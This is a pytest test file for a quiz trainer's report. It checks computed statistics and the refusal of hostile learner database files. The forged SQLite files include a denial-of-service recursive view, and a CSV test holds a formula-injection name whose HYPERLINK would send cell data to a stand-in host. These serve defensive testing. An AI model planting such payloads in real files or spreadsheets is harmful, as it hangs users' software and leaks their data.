"""Trainer report over three synthetic learners, checked against hand-computed numbers,
and learner files that are not what they claim (refused with a reason, never a hang)."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys

import pytest

import db.learner_files
from db.learners import ensure_learner
from db.progress import open_progress
from quiz.answers import record_answer
from quiz.report import LearnerFileError, LearnerResult, UnreadableFiles, build_report, merge_files, read_learners
from tests_support import ROOT

# learner -> [(question, correct)] in the order answered
HISTORIES = {
    "Ana": [("q1", True), ("q2", True), ("q3", True), ("q1", False)],
    "Ben": [("q1", True), ("q2", False), ("q3", False), ("q2", True)],
    "Cy": [("q1", False), ("q2", False), ("q1", True)],
}


@pytest.fixture
def files(tmp_path):
    paths = []
    for name, history in HISTORIES.items():
        db = open_progress(tmp_path / f"{name}.db")
        learner = ensure_learner(db, name)
        for n, (qid, ok) in enumerate(history):
            record_answer(db, learner_id=learner, pack_id="p", question_id=qid, response=None, correct=ok,
                          score=float(ok), elapsed_ms=1000, mode="exam", session_id="x",
                          answered_at=f"2026-11-0{n + 1}T10:00:00+00:00")
        db.close()
        paths.append(tmp_path / f"{name}.db")
    return paths


def test_facility_and_scores_match_hand_computation(files):
    learners = [r for path in files for r in read_learners(path)]
    report = build_report(learners, topic_of=lambda q: "numbers" if q == "q1" else "words")
    scores = {learner.name: round(learner.score, 4) for learner in report.learners}
    # First attempts: Ana 3/3, Ben 1/3, Cy 0/2 (later retries do not count).
    assert scores == {"Ana": 1.0, "Ben": 0.3333, "Cy": 0.0}
    facility = {i.question_id: round(i.facility, 4) for i in report.items}
    # q1: Ana ✓ Ben ✓ Cy ✗ -> 2/3; q2: Ana ✓ Ben ✗ Cy ✗ -> 1/3; q3: Ana ✓ Ben ✗ -> 1/2.
    assert facility == {"q1": 0.6667, "q2": 0.3333, "q3": 0.5}
    assert [i.attempts for i in report.items] == [3, 3, 2]
    # Weakest topic first: words (1/3 + 1/2) / 2 = 0.4167 < numbers 0.6667.
    assert [(t, round(f, 4)) for t, f in report.topics] == [("words", 0.4167), ("numbers", 0.6667)]


def test_discrimination_is_corrected_item_total_correlation(files):
    report = build_report([r for path in files for r in read_learners(path)])
    q2 = next(i for i in report.items if i.question_id == "q2")
    # q2 right: Ana 1, Ben 0, Cy 0; rest scores: Ana (q1,q3)=1.0, Ben (q1,q3)=0.5, Cy (q1)=0.0.
    # means 1/3 and 0.5: sum of products 0.5, sxx = 2/3, syy = 0.5 -> r = 0.5 / sqrt(1/3) = 0.8660
    assert q2.discrimination == pytest.approx(0.8660, abs=1e-4)
    q3 = next(i for i in report.items if i.question_id == "q3")
    assert q3.discrimination == pytest.approx(1.0)  # two takers; the better one got it right


def test_learner_files_are_not_modified(files):
    before = [p.read_bytes() for p in files]
    read_learners(files[0])
    assert [p.read_bytes() for p in files] == before


def test_csv_lists_learners_items_and_topics(files):
    report = build_report([r for path in files for r in read_learners(path)], topic_of=lambda q: "t")
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    assert {r["kind"] for r in rows} == {"learner", "question", "topic"}
    assert next(r for r in rows if r["id"] == "q1")["facility_or_score"] == "0.6667"


def test_file_names_with_uri_characters_are_read(files, tmp_path):
    """Learners name files as they like; '#', '?' and '%' must not cut the path short."""
    renamed = tmp_path / "week #1 ?50%.db"
    files[0].rename(renamed)
    assert [(r.name, r.first_attempts) for r in read_learners(renamed)] == [
        ("Ana", {"q1": True, "q2": True, "q3": True})]


# -- learner files are untrusted: refused with a reason, never a hang or a traceback ----------
LEARNERS = "CREATE TABLE learners (id INTEGER PRIMARY KEY, name TEXT NOT NULL, created_at TEXT)"
ANSWERS = ("CREATE TABLE answers (id INTEGER PRIMARY KEY, learner_id INTEGER, pack_id TEXT, question_id TEXT, "
           "correct INTEGER, answered_at TEXT)")


def forged(path, *statements: str):
    """A file that claims to be a learner's progress, written directly with SQL."""
    conn = sqlite3.connect(path)
    conn.executescript(";\n".join(statements))
    conn.commit()
    conn.close()
    return path


def refusal(path, **kwargs) -> str:
    with pytest.raises(LearnerFileError) as caught:
        read_learners(path, **kwargs)
    return str(caught.value)


def test_a_recursive_view_for_answers_is_refused_without_running_it(tmp_path):
    """The reported hang: ``answers`` as an endless recursive view. Run as the trainer would, bounded by a timeout."""
    hostile = forged(tmp_path / "hostile.db", LEARNERS, "INSERT INTO learners VALUES (1, 'Eve', '')",
                     "CREATE VIEW answers AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) "
                     "SELECT x AS id, 1 AS learner_id, 'sanaenomics' AS pack_id, 'q' || x AS question_id, "
                     "1 AS correct, x AS answered_at FROM r")
    env = {**os.environ, "BRIEFING_DATA_DIR": str(tmp_path / "data")}
    result = subprocess.run([sys.executable, str(ROOT / "main.py"), "report", str(hostile), "-o",
                             str(tmp_path / "r.csv")], capture_output=True, text=True, env=env, timeout=120)
    assert result.returncode == 2
    assert "answers is a view, not a table" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "r.csv").exists()


@pytest.mark.parametrize(("statements", "reason"), [
    ((LEARNERS,), "it has no answers table"),
    ((ANSWERS,), "it has no learners table"),
    ((LEARNERS, "CREATE VIRTUAL TABLE answers USING fts5(id, learner_id, pack_id, question_id, correct, "
                "answered_at)"), "answers is not a plain table"),
    ((LEARNERS, ANSWERS.replace("correct INTEGER", "correct INTEGER AS (length(zeroblob(999999)) > 0)")),
     "answers.correct is computed"),
    ((LEARNERS, ANSWERS.replace("question_id TEXT, ", "")), "answers has no question_id column"),
    ((LEARNERS, ANSWERS, "INSERT INTO learners VALUES (1, 'Eve', '')",
      "INSERT INTO answers VALUES (1, 1, 'p', 'q1', 'yes', '2026')"), "neither right (1) nor wrong (0)"),
    ((LEARNERS, ANSWERS, "INSERT INTO learners VALUES (1, 'Eve', '')",
      "INSERT INTO answers VALUES (1, 1, 'p', 'q1', 2, '2026')"), "neither right (1) nor wrong (0)"),
    ((LEARNERS, ANSWERS, "INSERT INTO learners VALUES (1, 'Eve', '')",
      "INSERT INTO answers VALUES (1, 1, 'p', x'00ff', 1, '2026')"), "a question id is not text"),
    ((LEARNERS.replace(" NOT NULL", ""), ANSWERS, "INSERT INTO learners VALUES (1, NULL, '')"),
     "a learner's name is empty, not text"),
    ((LEARNERS, ANSWERS, f"INSERT INTO learners VALUES (1, '{'x' * 600}', '')"), "longer than 500 characters"),
], ids=["no-answers", "no-learners", "virtual-table", "computed-column", "missing-column", "correct-is-text",
        "correct-is-2", "question-id-is-a-blob", "name-is-null", "name-too-long"])
def test_files_that_are_not_ours_are_refused_with_the_reason(tmp_path, statements, reason):
    assert reason in refusal(forged(tmp_path / "odd.db", *statements))


@pytest.mark.parametrize("content", [b"", b"this is not a progress file", b"\x89PNG\r\n\x1a\n" + bytes(2000)],
                         ids=["empty", "text", "png"])
def test_files_that_are_not_databases_are_refused(tmp_path, content):
    path = tmp_path / "notes.db"
    path.write_bytes(content)
    assert refusal(path) == "is not a progress file (not an SQLite database)"


def test_a_folder_or_a_pipe_is_not_opened(tmp_path):
    assert refusal(tmp_path) == "is not a file"
    fifo = tmp_path / "pipe.db"
    os.mkfifo(fifo)  # reading a pipe would wait forever for a writer
    assert refusal(fifo) == "is not a file"


def test_files_over_the_size_limit_are_not_opened(files, monkeypatch):

    monkeypatch.setattr(db.learner_files, "MAX_FILE_BYTES", files[0].stat().st_size - 1)
    assert "the report reads progress files up to" in refusal(files[0])


@pytest.mark.parametrize(("limit", "needle"), [("MAX_ANSWERS", "holds 4 answers; the report reads at most 3"),
                                                ("MAX_LEARNERS", "holds 1 learners; the report reads at most 0"),
                                                ("MAX_QUESTIONS", "more than 2 different questions")])
def test_row_limits_are_refused_with_the_numbers(files, monkeypatch, limit, needle):

    sizes = {"MAX_ANSWERS": 3, "MAX_LEARNERS": 0, "MAX_QUESTIONS": 2}  # Ana: 4 answers, 3 questions
    monkeypatch.setattr(db.learner_files, limit, sizes[limit])
    assert needle in refusal(files[0])


def test_a_query_still_running_at_the_deadline_is_stopped(tmp_path, monkeypatch):
    """The last line of defence for whatever else a hostile file can make SQLite do."""

    path = forged(tmp_path / "many.db", LEARNERS, ANSWERS, "INSERT INTO learners VALUES (1, 'Eve', '')",
                  "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5000) "
                  "INSERT INTO answers SELECT x, 1, 'p', 'q' || (x % 7), x % 2, x FROM n")
    assert len(read_learners(path)[0].first_attempts) == 7  # a legitimate shape: read in full
    monkeypatch.setattr(db.learner_files, "READ_SECONDS", 0)  # the deadline has passed at the first check
    assert "took longer than 0 s, so it was stopped" in refusal(path)


def test_answers_without_a_profile_and_invalid_utf8_do_not_break_the_report(tmp_path):
    path = forged(tmp_path / "odd.db", LEARNERS, ANSWERS,
                  "INSERT INTO learners VALUES (1, CAST(x'45ff7665' AS TEXT), '')",
                  "INSERT INTO answers VALUES (1, 1, 'p', 'q1', 1, '2026-01-01')",
                  "INSERT INTO answers VALUES (2, 9, 'p', 'q1', 0, '2026-01-01')")
    assert [(r.name, r.first_attempts) for r in read_learners(path)] == [("E\ufffdve", {"q1": True})]


def test_merge_names_every_refused_file_and_why(files, tmp_path, bundled_pack):
    junk = tmp_path / "junk.db"
    junk.write_text("not a database", encoding="utf-8")
    view = forged(tmp_path / "view.db", LEARNERS, "CREATE VIEW answers AS SELECT 1 AS id")
    with pytest.raises(UnreadableFiles) as caught:
        merge_files([files[0], junk, view], bundled_pack)
    assert caught.value.problems == [f"{junk}: is not a progress file (not an SQLite database)",
                                     f"{view}: is not a progress file this app wrote (answers is a view, not a table)"]


def test_csv_cells_from_learner_files_and_packs_never_run_as_formulas(files):
    """Learner names come from someone else's file: ``=HYPERLINK(…)`` must stay text in a spreadsheet."""
    learners = [LearnerResult("a.db", '=HYPERLINK("http://x.invalid/?"&A1,"Click")', {"q1": True, "@q2": False}),
                LearnerResult("b.db", "Ben", {"q1": False, "@q2": True})]
    report = build_report(learners, topic_of=lambda q: "+topic")
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    learner = next(r for r in rows if r["kind"] == "learner" and r["id"] != "Ben")
    assert learner["id"] == "'" + learners[0].name
    assert {r["id"] for r in rows if r["kind"] == "question"} == {"q1", "'@q2"}
    assert {r["topic"] for r in rows if r["kind"] != "learner"} == {"'+topic"}
    # numbers stay numbers: a negative discrimination is not mistaken for a formula
    assert {r["discrimination"] for r in rows if r["kind"] == "question"} == {"-1.0000"}
